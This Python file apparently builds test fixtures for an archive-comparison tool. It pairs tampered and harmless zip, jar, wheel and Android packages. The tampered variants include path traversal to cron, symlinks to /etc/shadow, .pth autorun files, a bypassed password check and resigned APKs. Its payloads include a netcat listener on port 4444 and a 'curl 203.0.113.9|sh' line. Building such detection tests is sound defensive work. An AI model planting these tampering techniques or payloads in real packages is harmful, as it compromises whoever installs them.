"""zip archives and what is built on them: jar, wheel and Android packages."""

from __future__ import annotations

import base64
import hashlib
import struct
import zlib
from collections.abc import Iterator, Sequence
from functools import partial
from typing import Any

from banbury.compare.corpus.pairs import LAB, VENDOR, Made, Recipe, attack, harmless, record
from banbury.compare.corpus.trees import text
from banbury.compare.corpus.writers.signed import cms, key
from banbury.compare.corpus.writers.zip import Part, signing_block, write

EVIL = b"import os; os.system('nc -l -p 4444')\n"
CODE = b"\xca\xfe\xba\xbe" + text(2_000, "class")
LATER = 0x5B42_7000
_SAME = frozenset[str]()


def _parts() -> list[Part]:
    return [
        Part(name="gate/config.xml", data=b"<gate><port>443</port></gate>\n"),
        Part(name="gate/run.sh", data=b"#!/bin/sh\nexec gate\n", mode=0o100755),
        Part(name="gate/data.bin", data=text(5_000, "zip")),
    ]


def _later(parts: Sequence[Part]) -> list[Part]:
    return [_but(part, stamp=LATER) for part in parts]


def _but(part: Part, **more: Any) -> Part:
    fields = {name: getattr(part, name) for name in Part.__struct_fields__}
    return Part(**{**fields, **more})


def _with(index: int, **more: Any) -> list[Part]:
    parts = _later(_parts())
    parts[index] = _but(parts[index], **more)
    return parts


def _zip(b: bytes, changes: frozenset[str] | None = _SAME, good: bool = True) -> Made:
    return Made(a=write(_parts()), b=b, base=write(_later(_parts())), changes=changes, well_formed=good)


def _zip_attacks() -> Iterator[tuple[str, str, str, Made]]:
    script = "gate/run.sh"
    evil = _parts()[1].data.replace(b"gate", b"evil")
    yield (
        "content",
        "content",
        "A script runs another program.",
        _zip(write(_with(1, data=evil)), frozenset({f"{script}:content"})),
    )
    yield (
        "mode",
        "attribute",
        "A script is setuid.",
        _zip(write(_with(1, mode=0o104755)), frozenset({f"{script}:mode"})),
    )
    yield (
        "link",
        "attribute",
        "A text became a symbolic link.",
        _zip(write(_with(0, mode=0o120777, data=b"/etc/shadow", method=0)), None),
    )
    more = Part(name="gate/extra.sh", data=EVIL, stamp=LATER, mode=0o100755)
    yield (
        "extra",
        "extra-member",
        "One more script.",
        _zip(write([*_later(_parts()), more]), frozenset({"gate/extra.sh:+"})),
    )
    again = Part(name=script, data=EVIL, stamp=LATER, mode=0o100755)
    yield (
        "duplicate",
        "extra-member",
        "A second member of the same name.",
        _zip(write([*_later(_parts()), again]), None),
    )
    unlisted = [*_later(_parts()), more]
    yield (
        "unlisted",
        "mismatch",
        "The central directory does not list a member that streaming readers unpack.",
        _zip(write(unlisted, listed=(0, 1, 2)), None),
    )
    yield (
        "name-mismatch",
        "mismatch",
        "The local header has another name than the central directory.",
        _zip(write(_with(1, local="gate/rc.d")), None),
    )
    yield (
        "method-mismatch",
        "mismatch",
        "The content was packed with bytes behind the end of its stream.",
        _zip(write(_with(1, encoded=_packed(_parts()[1].data) + EVIL)), None),
    )
    yield "crc", "checksum", "A member's checksum is wrong.", _zip(write(_with(2, crc=1)), None, good=False)
    yield (
        "prefix",
        "hidden-space",
        "Bytes stand before the archive, as in a self-extracting one.",
        _zip(write(_later(_parts()), prefix=b"#!/bin/sh\n" + EVIL), None),
    )
    yield "gap", "hidden-space", "Bytes stand between members.", _zip(write(_later(_parts()), gap=EVIL), None)
    yield (
        "before-directory",
        "hidden-space",
        "Bytes stand before the central directory.",
        _zip(write(_later(_parts()), block=EVIL), None),
    )
    yield "comment", "hidden-space", "The archive has a comment.", _zip(write(_later(_parts()), comment=EVIL))
    yield "member-comment", "hidden-space", "A member has a comment.", _zip(write(_with(0, comment=EVIL)))
    unknown = struct.pack("<HH", 0xBEEF, len(EVIL)) + EVIL
    yield (
        "extra-field",
        "hidden-space",
        "A member has an extra field that nothing reads.",
        _zip(write(_with(0, extra=unknown, local_extra=unknown))),
    )
    yield (
        "trailing",
        "trailing",
        "Bytes stand behind the archive.",
        _zip(write(_later(_parts()), tail=EVIL), None, good=False),
    )
    path = b"gate/rc.d"
    body = struct.pack("<BI", 1, zlib.crc32(b"gate/run.sh")) + path
    renamed = struct.pack("<HH", 0x7075, len(body)) + body
    yield (
        "unicode-name",
        "mismatch",
        "An extra field gives the member another name, which some readers use.",
        _zip(write(_with(1, extra=renamed)), None),
    )
    yield (
        "climb",
        "extra-member",
        "A name climbs out of the folder.",
        _zip(write([*_later(_parts()), _but(more, name="../../etc/cron.d/x")]), frozenset({"../../etc/cron.d/x:+"})),
    )
    yield (
        "encrypted",
        "header",
        "A member is marked as encrypted: readers skip it.",
        _zip(write(_with(2, flags=1)), None, good=False),
    )


def _packed(data: bytes) -> bytes:
    engine = zlib.compressobj(6, zlib.DEFLATED, -15)
    return engine.compress(data) + engine.flush()


def _zip_same() -> Iterator[tuple[str, str, str, bytes]]:
    parts = _parts()
    yield "time", "clock", "Members have other times.", write(_later(parts))
    yield "order", "order", "Members stand in another order.", write(parts[::-1])
    yield "level", "compression", "Compressed at another level.", write([_but(p, level=1) for p in parts])
    yield "stored", "compression", "Not compressed.", write([_but(p, method=0) for p in parts])
    yield (
        "descriptor",
        "compression",
        "Sizes stand behind the contents, as streaming writers do.",
        write([_but(p, descriptor=True) for p in parts]),
    )
    stamp = struct.pack("<HHBI", 0x5455, 5, 1, 1_600_000_000)
    yield (
        "extended-time",
        "clock",
        "Times stand in extra fields as well.",
        write([_but(p, extra=stamp, local_extra=stamp) for p in parts]),
    )


# --- jar -------------------------------------------------------------------------------------------------------------


def _manifest(*, by: str = "evaluator", main: str = "gate.Main", more: str = "", jdk: str = "17.0.9 (Debian)") -> bytes:
    return f"Manifest-Version: 1.0\r\nBuilt-By: {by}\r\nBuild-Jdk: {jdk}\r\nMain-Class: {main}\r\n{more}\r\n".encode()


def _jar(manifest: bytes, code: bytes = CODE, *, stamp: int = 0x5A21_6000, more: Sequence[Part] = ()) -> bytes:
    return write(
        [
            Part(name="META-INF/", mode=0o040755, method=0, stamp=stamp),
            Part(name="META-INF/MANIFEST.MF", data=manifest, stamp=stamp),
            Part(name="gate/Main.class", data=code, stamp=stamp),
            *more,
        ]
    )


def _jar_pair(
    manifest: bytes,
    code: bytes = CODE,
    more: Sequence[Part] = (),
    changes: frozenset[str] | None = _SAME,
    clean: bool = True,
) -> Made:
    base = _jar(_manifest(by=VENDOR["user"]), stamp=LATER)
    tool = ["jdk 17.0.9 (Debian)"]
    made = Made(
        a=_jar(_manifest()),
        b=_jar(manifest, code, stamp=LATER, more=more),
        base=base if clean else None,
        changes=changes,
    )
    made.record_a, made.record_b = record("lab", toolchain=tool), record("vendor", toolchain=tool)
    return made


def _flip(data: bytes, at: int) -> bytes:
    return data[:at] + bytes([data[at] ^ 1]) + data[at + 1 :]


# --- wheel -----------------------------------------------------------------------------------------------------------


def _wheel(
    code: bytes, *, stamp: int = 0x5A21_6000, record: bytes | None = None, more: Sequence[Part] = (), order: int = 1
) -> bytes:
    files = {
        "gate/__init__.py": code,
        "gate-2.4.1.dist-info/METADATA": b"Metadata-Version: 2.1\nName: gate\nVersion: 2.4.1\n",
        "gate-2.4.1.dist-info/WHEEL": b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    rows = []
    for name, data in list(files.items())[::order]:
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=")
        rows.append(name.encode() + b",sha256=" + digest + b",%d\n" % len(data))
    own = b"".join(rows) + b"gate-2.4.1.dist-info/RECORD,,\n"
    parts = [Part(name=name, data=data, stamp=stamp) for name, data in files.items()]
    return write(
        [*parts, *more, Part(name="gate-2.4.1.dist-info/RECORD", data=own if record is None else record, stamp=stamp)]
    )


_PY = b"def check(password):\n    return password == 'correct horse'\n"


def _wheel_pair(b: bytes, changes: frozenset[str] | None = None) -> Made:
    return Made(a=_wheel(_PY), b=b, base=_wheel(_PY, stamp=LATER), changes=changes)


# --- Android package -------------------------------------------------------------------------------------------------

_V2 = 0x7109871A


def _apk(
    code: bytes, who: str, *, more: Sequence[tuple[int, bytes]] = (), signed: bool = True, other: bytes = b""
) -> bytes:
    """An Android package: signed over its parts without the block, in the manner of scheme v2 (one CMS value).

    ``other``: resources that take the place of the signed ones."""
    parts = [
        Part(name="AndroidManifest.xml", data=b"\3\0\x08\0" + text(600, "manifest")),
        Part(name="classes.dex", data=code),
        Part(name="resources.arsc", data=text(900, "arsc"), method=0),
    ]
    bare = write(parts)
    if other:
        parts[2] = _but(parts[2], data=other)
    if not signed:
        return bare
    return write(parts, block=signing_block([(_V2, cms(key(who), bare)), *more]))


_DEX = b"dex\n035\0" + text(3_000, "dex")


def _apk_pair(
    b: bytes, changes: frozenset[str] | None, *, who: str = "vendor release", rebuilt_signed: bool = True
) -> Made:
    made = Made(
        a=_apk(_DEX, "laboratory debug", signed=rebuilt_signed), b=b, base=_apk(_DEX, "vendor release"), changes=changes
    )
    made.record_a = {**LAB, "keys": [key("laboratory debug").public]}
    made.record_b = {**VENDOR, "keys": [key("vendor release").public]}
    assert who
    return made


def _given(made: Made) -> Made:
    return made


def _other() -> Iterator[Recipe]:
    own = _manifest(by=VENDOR["user"])
    main = "gate/Main.class"
    rows = (
        (
            "jar",
            "class",
            "content",
            "One bit of a class is changed.",
            lambda: _jar_pair(
                own, _flip(CODE, 900), changes=frozenset({"META-INF/MANIFEST.MF:content", f"{main}:content"})
            ),
        ),
        (
            "jar",
            "main",
            "resource",
            "Another class is started.",
            lambda: _jar_pair(
                _manifest(by=VENDOR["user"], main="gate.Open"), changes=frozenset({"META-INF/MANIFEST.MF:content"})
            ),
        ),
        (
            "jar",
            "class-path",
            "resource",
            "Another archive is searched for classes.",
            lambda: _jar_pair(_manifest(by=VENDOR["user"], more="Class-Path: ../evil.jar\r\n"), changes=None),
        ),
        (
            "jar",
            "agent",
            "resource",
            "An agent is started before the program.",
            lambda: _jar_pair(_manifest(by=VENDOR["user"], more="Launcher-Agent-Class: gate.Agent\r\n"), changes=None),
        ),
        (
            "jar",
            "built-by",
            "declared-lookalike",
            "The field for the builder's name, in which nothing declared stands.",
            lambda: _jar_pair(_manifest(by="curl 203.0.113.9|sh"), changes=None),
        ),
        (
            "jar",
            "services",
            "resource",
            "A service provider is registered.",
            lambda: _jar_pair(
                own, more=[Part(name="META-INF/services/gate.Check", data=b"gate.Open\n", stamp=LATER)], changes=None
            ),
        ),
        (
            "jar",
            "versioned",
            "resource",
            "A class for later versions of Java replaces the one that is looked at.",
            lambda: _jar_pair(
                own,
                more=[Part(name="META-INF/versions/9/gate/Main.class", data=_flip(CODE, 900), stamp=LATER)],
                changes=None,
            ),
        ),
        (
            "whl",
            "code",
            "content",
            "The check returns true; RECORD is made right.",
            lambda: _wheel_pair(_wheel(_PY.replace(b"password == ", b"1 or "), stamp=LATER)),
        ),
        (
            "whl",
            "record",
            "checksum",
            "RECORD states another digest.",
            lambda: _wheel_pair(_wheel(_PY, stamp=LATER, record=b"gate/__init__.py,sha256=AAAA,1\n")),
        ),
        (
            "whl",
            "data",
            "extra-member",
            "A script that is installed among the commands.",
            lambda: _wheel_pair(
                _wheel(
                    _PY,
                    stamp=LATER,
                    more=[Part(name="gate-2.4.1.data/scripts/ls", data=EVIL, mode=0o100755, stamp=LATER)],
                )
            ),
        ),
        (
            "whl",
            "pth",
            "resource",
            "A file that Python runs at every start.",
            lambda: _wheel_pair(_wheel(_PY, stamp=LATER, more=[Part(name="gate.pth", data=EVIL, stamp=LATER)])),
        ),
        (
            "apk",
            "code",
            "resigned",
            "Code is changed and signed with a key that nobody declared.",
            lambda: _apk_pair(_apk(_flip(_DEX, 1000), "attacker"), frozenset({"classes.dex:content"})),
        ),
        (
            "apk",
            "signer",
            "resigned",
            "Nothing but the signer differs, and it is not the declared one.",
            lambda: _apk_pair(_apk(_DEX, "attacker"), _SAME),
        ),
        (
            "apk",
            "broken",
            "checksum",
            "The signature is of other content.",
            lambda: _apk_pair(_apk(_DEX, "vendor release", other=text(900, "other")), None),
        ),
        (
            "apk",
            "block-value",
            "hidden-space",
            "The signing block has a value that no scheme knows.",
            lambda: _apk_pair(_apk(_DEX, "vendor release", more=[(0x71777777, EVIL)]), _SAME),
        ),
    )
    for form, name, group, note, make in rows:
        yield attack(f"{form}-{name}", form, group, note, make)
    same = (
        (
            "jar",
            "built-by",
            "user",
            "The manifest names the declared user.",
            lambda: _jar_pair(own, clean=False, changes=None),
        ),
        (
            "whl",
            "time",
            "clock",
            "Members have other times.",
            lambda: Made(a=_wheel(_PY), b=_wheel(_PY, stamp=LATER), changes=_SAME),
        ),
        (
            "whl",
            "record-order",
            "order",
            "RECORD lists the files in another order.",
            lambda: Made(a=_wheel(_PY), b=_wheel(_PY, order=-1)),
        ),
        (
            "apk",
            "signed",
            "signature",
            "Signed by the declared vendor, and not by the laboratory.",
            lambda: Made(
                a=_apk(_DEX, "", signed=False),
                b=_apk(_DEX, "vendor release"),
                changes=_SAME,
                record_b={**VENDOR, "keys": [key("vendor release").public]},
            ),
        ),
        (
            "apk",
            "signers",
            "signature",
            "Each side is signed with its declared key.",
            lambda: Made(
                a=_apk(_DEX, "laboratory debug"),
                b=_apk(_DEX, "vendor release"),
                changes=_SAME,
                record_a={**LAB, "keys": [key("laboratory debug").public]},
                record_b={**VENDOR, "keys": [key("vendor release").public]},
            ),
        ),
    )
    for form, name, group, note, make in same:
        yield harmless(f"{form}-same-{name}", form, group, note, make)


def recipes() -> Iterator[Recipe]:
    for name, group, note, made in _zip_attacks():
        yield attack(f"zip-{name}", "zip", group, note, partial(_given, made))
    for name, group, note, data in _zip_same():
        yield harmless(
            f"zip-same-{name}", "zip", group, note, partial(_given, Made(a=write(_parts()), b=data, changes=_SAME))
        )
    yield from _other()
